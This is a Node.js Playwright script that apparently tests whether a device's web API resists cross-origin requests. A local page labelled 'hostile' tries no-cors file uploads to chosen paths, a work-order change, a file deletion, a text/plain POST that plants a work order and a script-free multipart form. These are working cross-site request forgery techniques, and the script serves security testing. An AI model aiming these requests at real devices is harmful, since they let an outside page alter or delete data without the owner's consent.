// Opens a page of another origin, which sends what it can to a device.
//
//   webpage.mjs CHROMIUM DEVICE TARGET
//
// Prints, for each attempt, what the page was told. DEVICE is the device's URL, TARGET the path of the
// file that the uploads name.

import { createServer } from "node:http";
import { createRequire } from "node:module";
import { argv, cwd } from "node:process";

const { chromium } = createRequire(`${cwd()}/`)("playwright-core");
const [, , executablePath, device, target] = argv;

const page = createServer((request, response) => {
  response.setHeader("Content-Type", "text/html");
  response.end("<!DOCTYPE html><title>hostile</title><form></form>");
});
await new Promise((listening) => page.listen(0, "127.0.0.1", listening));

const upload = `${device}/api/filemgr/v2/userfiles`;
const attempts = {
  async upload(upload, target) {
    const form = new FormData();
    form.append("meta", JSON.stringify({ fileUri: target, fileSize: 1 }));
    form.append("file", new Blob(["x"]));
    return (await fetch(upload, { method: "POST", body: form, mode: "no-cors" })).type;
  },
  async put(upload, target, device) {
    const body = JSON.stringify({ activeWorkOrderId: "WO-1001" });
    return (await fetch(`${device}/api/workflow/v1/active`, { method: "PUT", body })).status;
  },
  async delete(upload, target) {
    return (await fetch(`${upload}${target}-kept`, { method: "DELETE" })).status;
  },
  async text(upload, target, device) {
    const body = JSON.stringify({ cdm: [{ workOrderId: "WO-hostile" }] });
    const headers = { "Content-Type": "text/plain" };
    return (
      await fetch(`${device}/api/workflow/v1/workorders`, { method: "POST", body, headers, mode: "no-cors" })
    ).type;
  },
};

const browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
try {
  const tab = await browser.newPage();
  const home = `http://127.0.0.1:${page.address().port}/`;
  for (const [name, attempt] of Object.entries(attempts)) {
    await tab.goto(home);
    const told = await tab.evaluate(
      `(${String(attempt).replace(/^async \w+/, "async function")})(${[upload, target, device]
        .map((text) => JSON.stringify(text))
        .join()}).catch(String)`,
    );
    console.log(`${name}: ${told}`);
  }

  // A form needs no script; its answer takes the page's place.
  await tab.goto(home);
  await tab.setContent(`<form method="post" enctype="multipart/form-data" action="${upload}">
    <textarea name="meta">${JSON.stringify({ fileUri: `${target}-form`, fileSize: 1 })}</textarea>
    <textarea name="file">x</textarea><button>send</button></form>`);
  const answered = tab.waitForResponse(upload);
  await tab.click("button");
  console.log(`form: ${(await answered).status()}`);
} finally {
  await browser.close();
  page.close();
}
